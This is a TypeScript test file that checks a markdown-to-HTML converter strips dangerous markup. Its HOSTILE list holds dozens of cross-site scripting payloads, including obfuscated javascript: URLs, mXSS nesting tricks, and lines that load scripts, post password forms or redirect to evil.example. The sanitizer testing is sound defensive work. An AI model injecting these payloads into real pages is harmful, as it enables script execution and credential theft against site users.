import { expect, test } from 'vitest';
import { toHtml } from './markdown.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<p onclick="alert(1)">Text</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/faq" target="_blank" style="position:fixed" onmouseover="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://evil.example/x.png)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<!-- <script>alert(1)</script> --><!--><script>alert(1)</script>-->',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '`<script>alert(1)</script>`\n\n```\n<img src=x onerror=alert(1)>\n```',
  '<p id="root" class="x" name="state">Text</p>',
];

const TAGS = new Set([
  ...['p', 'h2', 'h3', 'h4', 'ul', 'ol', 'li', 'strong', 'em', 'a', 'blockquote', 'br'],
  ...['table', 'thead', 'tbody', 'tr', 'th', 'td'],
]);

test.each(HOSTILE)('leaves nothing in %j that acts or loads', (markdown) => {
  const html = toHtml(markdown);
  // Whatever is no tag of this form is text, in which every `<` is escaped.
  const tags = [...html.matchAll(/<([^>]*)>?/g)].map(([, tag = '']) => tag);
  for (const tag of tags) {
    const [, name = '', attributes = ''] = /^\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)(?: \/)?$/.exec(tag) ?? [];
    expect(TAGS, html).toContain(name);
    for (const [, attribute, value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      expect(['href', 'rel'], html).toContain(attribute);
      if (attribute === 'href') expect(value, html).toMatch(/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|[\w%.-]*$)/);
    }
  }
});

test('keeps headings, lists, emphasis, tables, quotes and links', () => {
  const html = toHtml(
    '# A\n\n### B\n\n- **one**\n- *two*\n\n1. three\n\n> four\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n' +
      '[in](/faq) [out](https://example.com) [mail](mailto:a@example.com) [call](tel:+62811) line  \nbreak',
  );
  expect(html).toContain('<h2>A</h2>');
  expect(html).toContain('<h3>B</h3>');
  expect(html).toContain('<li><strong>one</strong></li>\n<li><em>two</em></li>');
  expect(html).toContain('<ol>\n<li>three</li>\n</ol>');
  expect(html).toContain('<blockquote>');
  expect(html).toContain('<td>1</td>');
  expect(html).toContain('<a href="/faq">in</a> <a href="https://example.com" rel="noopener">out</a>');
  expect(html).toContain('<a href="mailto:a@example.com" rel="noopener">mail</a>');
  expect(html).toContain('<a href="tel:+62811" rel="noopener">call</a> line<br />break');
});
